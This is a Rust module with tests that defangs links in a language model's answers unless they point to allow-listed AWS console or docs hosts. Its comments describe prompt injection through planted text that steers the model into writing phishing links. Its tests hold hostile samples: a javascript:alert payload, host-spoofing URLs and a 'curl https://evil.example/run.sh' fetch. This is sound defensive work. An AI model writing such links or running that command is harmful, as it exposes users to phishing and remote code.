//! Links in what the model wrote: only links to allow-listed hosts stay links.
//!
//! A model that read attacker-controlled text (a tag value, a resource description, a planted
//! question) can be steered into writing a convincing link ("re-authenticate here"). So before
//! an answer leaves the core — for every platform at once — each URL in its text is checked:
//! `https` links to the AWS console (`console.aws.amazon.com` and its regional
//! `*.console.aws.amazon.com`) and to `docs.aws.amazon.com` stay as they are; every other
//! URL, Markdown link `[text](url)` or Slack-style `<url|text>` becomes plain text with the
//! address defanged (`hxxps://evil[.]example/x`), so no client turns it into a link.
//! Tables are data from AWS and are left as they are (renderers show them as code).

use super::answer::{Answer, Block};

/// Hosts whose `https` links stay clickable: exact names, and `*.` suffixes.
pub const ALLOWED_HOSTS: &[&str] = &[
    "console.aws.amazon.com",
    "*.console.aws.amazon.com",
    "docs.aws.amazon.com",
];

/// Rewrites the answer's paragraphs and notes so that only allowed links remain links.
pub fn sanitize(answer: &mut Answer) {
    for block in &mut answer.blocks {
        if let Block::Paragraph { text } = block {
            *text = sanitize_text(text);
        }
    }
    for note in &mut answer.notes {
        note.text = sanitize_text(&note.text);
    }
}

/// Whether `url` may be shown as a link: `https`, no credentials, default port, an allowed host.
pub fn allowed(url: &str) -> bool {
    let Ok(u) = url::Url::parse(url) else {
        return false;
    };
    if u.scheme() != "https" || !u.username().is_empty() || u.password().is_some() {
        return false;
    }
    if u.port().is_some() {
        return false;
    }
    let Some(host) = u.host_str() else {
        return false;
    };
    let host = host.to_ascii_lowercase();
    ALLOWED_HOSTS.iter().any(|a| match a.strip_prefix("*.") {
        Some(suffix) => host
            .strip_suffix(suffix)
            .is_some_and(|head| head.len() > 1 && head.ends_with('.')),
        None => host == *a,
    })
}

/// The address as text no client links: `hxxp(s)://` and the host's dots as `[.]`.
pub fn defang(url: &str) -> String {
    let (scheme, rest) = match url.find("://") {
        Some(i) => (&url[..i], &url[i + 3..]),
        None => {
            // `mailto:x@evil.example`, `javascript:…`: break the scheme and the dots.
            return url.replacen(':', "[:]", 1).replace('.', "[.]");
        }
    };
    let scheme = if scheme.eq_ignore_ascii_case("http") {
        "hxxp".to_string()
    } else if scheme.eq_ignore_ascii_case("https") {
        "hxxps".to_string()
    } else {
        format!("{scheme}[:]")
    };
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let (authority, tail) = rest.split_at(end);
    let sep = if scheme.ends_with(']') { "//" } else { "://" };
    format!("{scheme}{sep}{}{tail}", authority.replace('.', "[.]"))
}

/// `text` with every link that is not allowed turned into plain, defanged text.
pub fn sanitize_text(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some((i, c)) = rest
        .char_indices()
        .find(|&(i, c)| c == '[' || c == '<' || ((c == 'h' || c == 'H') && starts_url(&rest[i..])))
    {
        out.push_str(&rest[..i]);
        let here = &rest[i..];
        let consumed = match c {
            '[' => markdown_link(here, &mut out),
            '<' => angle_link(here, &mut out),
            _ => bare_url(here, &mut out),
        };
        match consumed {
            Some(n) => rest = &here[n..],
            None => {
                out.push(c);
                rest = &here[c.len_utf8()..];
            }
        }
    }
    out.push_str(rest);
    out
}

fn starts_url(s: &str) -> bool {
    let lower = |n: usize| s.get(..n).map(str::to_ascii_lowercase);
    lower(7).as_deref() == Some("http://") || lower(8).as_deref() == Some("https://")
}

/// How text shows a link that is not allowed: its text, then the defanged address.
fn as_text(label: &str, url: &str) -> String {
    let label = sanitize_text(label.trim());
    let shown = defang(url);
    if label.is_empty() || label == shown {
        shown
    } else {
        format!("{label} ({shown})")
    }
}

/// `[text](url)` at the start of `s`: writes the result, returns the bytes consumed.
fn markdown_link(s: &str, out: &mut String) -> Option<usize> {
    let close = s.find("](")?;
    let label = &s[1..close];
    if label.contains(['\n', '[']) {
        return None;
    }
    let tail = &s[close + 2..];
    let end = tail.find(')')?;
    let url = tail[..end].trim();
    if url.is_empty() || url.contains(char::is_whitespace) {
        return None;
    }
    if allowed(url) {
        out.push_str(&format!("[{}]({url})", sanitize_text(label)));
    } else {
        out.push_str(&as_text(label, url));
    }
    Some(close + 2 + end + 1)
}

/// Slack's `<url|text>` or `<url>` at the start of `s`.
fn angle_link(s: &str, out: &mut String) -> Option<usize> {
    let end = s.find('>')?;
    let inner = &s[1..end];
    if inner.contains(char::is_whitespace) && !inner.contains('|') {
        return None;
    }
    let (url, label) = inner.split_once('|').unwrap_or((inner, ""));
    let scheme = url.split_once(':').map(|(s, _)| s)?;
    if scheme.is_empty()
        || !scheme
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '+')
    {
        return None;
    }
    if allowed(url) {
        // A Markdown link every renderer understands.
        let label = if label.is_empty() { url } else { label };
        out.push_str(&format!("[{}]({url})", sanitize_text(label)));
    } else {
        out.push_str(&as_text(label, url));
    }
    Some(end + 1)
}

/// A bare `http(s)://…` at the start of `s` (up to whitespace or a closing bracket, without
/// trailing punctuation).
fn bare_url(s: &str, out: &mut String) -> Option<usize> {
    let mut end = s
        .find(|c: char| c.is_whitespace() || matches!(c, '<' | '>' | '"' | '`' | ')' | ']'))
        .unwrap_or(s.len());
    while end > 0 && s[..end].ends_with(['.', ',', ';', ':', '!', '?', '\'']) {
        end -= 1;
    }
    let url = &s[..end];
    if url.len() <= "https://".len() {
        return None;
    }
    if allowed(url) {
        out.push_str(url);
    } else {
        out.push_str(&defang(url));
    }
    Some(end)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::answer::{AccountNote, NoteKind, Table};

    #[test]
    fn only_allowed_hosts_stay_links() {
        let cases: &[(&str, &str)] = &[
            (
                "see <https://evil.example|click> now",
                "see click (hxxps://evil[.]example) now",
            ),
            (
                "read [docs](https://evil.example) first",
                "read docs (hxxps://evil[.]example) first",
            ),
            (
                "go to https://evil.example/x.",
                "go to hxxps://evil[.]example/x.",
            ),
            ("plain <http://evil.example>", "plain hxxp://evil[.]example"),
            (
                "[console](https://eu-west-1.console.aws.amazon.com/ec2/home?region=eu-west-1#Instances:)",
                "[console](https://eu-west-1.console.aws.amazon.com/ec2/home?region=eu-west-1#Instances:)",
            ),
            (
                "https://console.aws.amazon.com/s3/buckets/logs",
                "https://console.aws.amazon.com/s3/buckets/logs",
            ),
            (
                "<https://docs.aws.amazon.com/ec2/|the EC2 guide>",
                "[the EC2 guide](https://docs.aws.amazon.com/ec2/)",
            ),
            (
                "[x](https://console.aws.amazon.com.evil.example/login)",
                "x (hxxps://console[.]aws[.]amazon[.]com[.]evil[.]example/login)",
            ),
            (
                "[x](https://console.aws.amazon.com@evil.example/)",
                "x (hxxps://console[.]aws[.]amazon[.]com@evil[.]example/)",
            ),
            (
                "[x](http://console.aws.amazon.com/)",
                "x (hxxp://console[.]aws[.]amazon[.]com/)",
            ),
            (
                "[x](https://console.aws.amazon.com:8443/)",
                "x (hxxps://console[.]aws[.]amazon[.]com:8443/)",
            ),
            ("[x](javascript:alert(1))", "x (javascript[:]alert(1))"),
            (
                "<mailto:a@evil.example|mail me>",
                "mail me (mailto[:]a@evil[.]example)",
            ),
            (
                "[https://evil.example](https://console.aws.amazon.com/)",
                "[hxxps://evil[.]example](https://console.aws.amazon.com/)",
            ),
            ("HTTPS://EVIL.EXAMPLE", "hxxps://EVIL[.]EXAMPLE"),
            (
                "`curl https://evil.example/run.sh`",
                "`curl hxxps://evil[.]example/run.sh`",
            ),
            (
                "arrays [1, 2] and a < b > c and [a](b c)",
                "arrays [1, 2] and a < b > c and [a](b c)",
            ),
            ("**3** instances, 2 stopped", "**3** instances, 2 stopped"),
            ("(see https://evil.example)", "(see hxxps://evil[.]example)"),
            ("über https://é.example/ü", "über hxxps://é[.]example/ü"),
        ];
        for (input, want) in cases {
            assert_eq!(sanitize_text(input), *want, "{input}");
        }
    }

    #[test]
    fn hosts_are_matched_exactly_or_as_subdomains() {
        for (url, ok) in [
            ("https://console.aws.amazon.com/", true),
            ("https://us-east-1.console.aws.amazon.com/", true),
            ("https://CONSOLE.AWS.AMAZON.COM/", true),
            ("https://docs.aws.amazon.com/x", true),
            ("https://xconsole.aws.amazon.com/", false),
            ("https://.console.aws.amazon.com/", false),
            ("https://aws.amazon.com/", false),
            ("https://docs.aws.amazon.com.evil.example/", false),
            ("not a url", false),
        ] {
            assert_eq!(allowed(url), ok, "{url}");
        }
    }

    #[test]
    fn paragraphs_and_notes_are_sanitized_tables_are_data() {
        let mut a = Answer::text("click [here](https://evil.example/login)").table(Table {
            caption: None,
            columns: vec!["url".into()],
            rows: vec![vec!["https://evil.example/tag".into()]],
        });
        a.notes.push(AccountNote {
            account: "prod".into(),
            kind: NoteKind::Failed,
            text: "see https://evil.example/why".into(),
        });
        sanitize(&mut a);
        let md = a.to_markdown();
        assert!(md.contains("here (hxxps://evil[.]example/login)"), "{md}");
        assert!(md.contains("see hxxps://evil[.]example/why"), "{md}");
        assert!(md.contains("| https://evil.example/tag |"), "{md}");
    }
}
